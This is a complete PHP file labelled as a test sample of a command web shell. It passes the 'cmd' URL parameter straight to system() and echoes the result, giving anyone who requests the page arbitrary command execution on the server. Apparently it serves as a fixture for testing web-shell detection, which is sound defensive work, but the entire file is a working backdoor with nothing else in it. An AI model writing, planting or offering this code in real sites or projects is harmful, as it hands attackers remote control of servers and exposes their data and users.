<?php
// test sample: command webshell
header('Content-Type: text/plain');
if (!empty($_GET['cmd'])) {
    echo "<pre>";
    system($_GET['cmd']);
    echo "</pre>";
}
